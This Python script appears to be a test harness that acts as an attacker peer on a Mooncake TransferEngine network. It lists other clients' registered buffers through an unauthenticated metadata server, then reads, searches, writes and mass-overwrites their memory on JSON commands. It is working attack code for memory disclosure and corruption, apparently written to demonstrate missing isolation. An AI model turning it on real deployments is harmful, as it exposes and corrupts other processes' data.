"""A peer on the store's network: a separate process with a bare Mooncake TransferEngine and the
master's metadata URL, no layerkv. It lists what a client's segment publishes (every registered
buffer's address and length, from the unauthenticated HTTP metadata server) and reads or writes
any address it likes. Driven by JSON lines on stdin, one JSON answer per line on stdout.

    {"op": "list", "segment": S}                          -> {"buffers": [[addr, nbytes], ...]}
    {"op": "read", "segment": S, "addr": A, "nbytes": N}   -> {"rc": rc, "data": hex}
    {"op": "write", "segment": S, "addr": A, "nbytes": N, "byte": B} -> {"rc": rc}
    {"op": "put_bytes", "segment": S, "addr": A, "data": hex}  -> {"rc": rc}
    {"op": "find", "segment": S, "magic": hex, "nbytes": N} -> {"found": [[addr, hex of N bytes], ...]}
        (every place in the segment's published buffers where `magic` starts, read whole)
    {"op": "scribble", "segment": S, "skip": [[addr, nbytes], ...], "byte": B}
        -> {"written": [[addr, nbytes, rc], ...]}  (every published buffer not in skip)
    {"op": "quit"}
"""

from __future__ import annotations

import json
import os
import sys
import urllib.parse
import urllib.request
from typing import Any

import numpy as np

CHUNK_NBYTES = 1 << 20


def published_buffers(metadata_url: str, segment: str) -> list[list[int]]:
    url = f"{metadata_url}?key={urllib.parse.quote('mooncake/ram/' + segment, safe='')}"
    with urllib.request.urlopen(url, timeout=5) as answer:
        descriptor = json.loads(answer.read())
    return [[int(b["addr"]), int(b["length"])] for b in descriptor.get("buffers", [])]


def find(
    engine: Any, local: np.ndarray, segment: str, buffers: list[list[int]], magic: bytes, nbytes: int
) -> list[list[Any]]:
    """Scan every published buffer of `segment` (chunk by chunk, overlapping by `nbytes`) for
    `magic`; return [addr, the `nbytes` bytes from there, hex] for each place (up to 256)."""
    found: list[list[Any]] = []
    step = CHUNK_NBYTES - nbytes
    for addr, length in buffers:
        at = addr
        while at < addr + length and len(found) < 256:
            n = min(CHUNK_NBYTES, addr + length - at)
            if engine.transfer_sync_read(segment, local.ctypes.data, at, n) != 0:
                break
            chunk = local[:n].tobytes()
            last = at + n >= addr + length
            i = chunk.find(magic)
            while 0 <= i <= n - nbytes and (i < step or last):  # the overlap is the next chunk's
                found.append([at + i, chunk[i : i + nbytes].hex()])
                i = chunk.find(magic, i + 1)
            if last:
                break
            at += step
    return found


def main() -> None:
    os.environ.setdefault("MC_TCP_BIND_ADDRESS", "127.0.0.1")
    from mooncake.engine import TransferEngine

    metadata_url = sys.argv[1]
    engine = TransferEngine()
    if engine.initialize("127.0.0.1", metadata_url, "tcp", "") != 0:
        raise SystemExit("attacker: TransferEngine.initialize failed")
    local = np.zeros(CHUNK_NBYTES, dtype=np.uint8)
    if engine.register_memory(local.ctypes.data, local.nbytes) != 0:
        raise SystemExit("attacker: register_memory failed")
    print(json.dumps({"ready": True}), flush=True)
    for line in sys.stdin:
        cmd: dict[str, Any] = json.loads(line)
        op, segment = cmd["op"], cmd.get("segment", "")
        if op == "quit":
            break
        if op == "list":
            answer: dict[str, Any] = {"buffers": published_buffers(metadata_url, segment)}
        elif op == "read":
            n = min(int(cmd["nbytes"]), CHUNK_NBYTES)
            rc = engine.transfer_sync_read(segment, local.ctypes.data, int(cmd["addr"]), n)
            answer = {"rc": rc, "data": local[:n].tobytes().hex() if rc == 0 else ""}
        elif op == "write":
            n = min(int(cmd["nbytes"]), CHUNK_NBYTES)
            local[:n] = int(cmd["byte"])
            answer = {"rc": engine.transfer_sync_write(segment, local.ctypes.data, int(cmd["addr"]), n)}
        elif op == "put_bytes":
            data = np.frombuffer(bytes.fromhex(cmd["data"]), dtype=np.uint8)
            local[: data.size] = data
            answer = {"rc": engine.transfer_sync_write(segment, local.ctypes.data, int(cmd["addr"]), int(data.size))}
        elif op == "find":
            answer = {
                "found": find(
                    engine,
                    local,
                    segment,
                    published_buffers(metadata_url, segment),
                    bytes.fromhex(cmd["magic"]),
                    int(cmd["nbytes"]),
                )
            }
        elif op == "scribble":
            skip = {tuple(b) for b in cmd.get("skip", [])}
            local[:] = int(cmd["byte"])
            written = []
            for addr, nbytes in published_buffers(metadata_url, segment):
                if (addr, nbytes) in skip:
                    continue
                rc = 0
                for at in range(addr, addr + nbytes, CHUNK_NBYTES):
                    rc = rc or engine.transfer_sync_write(
                        segment, local.ctypes.data, at, min(CHUNK_NBYTES, addr + nbytes - at)
                    )
                written.append([addr, nbytes, rc])
            answer = {"written": written}
        else:
            answer = {"error": f"unknown op {op!r}"}
        print(json.dumps(answer), flush=True)


if __name__ == "__main__":
    main()
